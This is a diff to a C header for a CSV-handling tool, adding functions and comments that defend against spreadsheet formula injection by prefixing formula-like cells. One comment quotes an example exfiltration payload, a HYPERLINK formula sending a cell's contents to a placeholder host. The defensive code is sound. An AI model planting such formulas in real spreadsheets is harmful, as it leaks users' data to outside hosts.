@@ -72,4 +72,34 @@ int mlfy_csv_find(char *const *fields, size_t n_fields, const char *name);
  * characters, misplaced separators ("1,01") or is not finite. */
 int mlfy_parse_number(const char *s, double *v);
 
+/* ---- writing ------------------------------------------------------------------
+ *
+ * Every CSV the tool writes for people to open (mlfy export --format csv
+ * and its download, mlfy aggregate --out X.csv, mlfy evaluate --format csv,
+ * the report's results.csv) writes its text cells (names, comments, model
+ * names) with mlfy_csv_write_text; numbers are printed as numbers.
+ *
+ * Spreadsheet formula injection (OWASP, "CSV Injection"): a cell a
+ * spreadsheet would read as a formula -- its text starts with '=', '+', '-'
+ * or '@', also after leading blanks, tabs, CR/LF or quotes (" and '), or
+ * starts with a tab or CR -- is written with a "'" in front and quoted, so
+ * that `=HYPERLINK("http://x/?"&A2,"details")` is shown as text instead of
+ * becoming a live link.  mlfy_csv_text_read undoes it exactly: the cells
+ * this project reads back (label files, evaluate results) go through it. */
+
+/* 1 when a spreadsheet could take s as a formula (the rule above): its
+ * leading run of blanks, tabs, CR, LF, '"' and '\'' holds a tab or CR, or
+ * is followed by '=', '+', '-' or '@'.  0 for NULL. */
+int mlfy_csv_text_is_formula(const char *s);
+
+/* Writes the text s as one CSV field: RFC 4180 (quoted when it holds a
+ * comma, quote, CR or LF; quotes doubled), and with "'" in front (and
+ * quoted) when mlfy_csv_text_is_formula(s).  Nothing for NULL. */
+void mlfy_csv_write_text(FILE *out, const char *s);
+
+/* The text of a field read back from a CSV written by mlfy_csv_write_text:
+ * field without its first byte when that is the "'" added in front of a
+ * formula-like text, else field itself (a pointer into field). */
+const char *mlfy_csv_text_read(const char *field);
+
 #endif
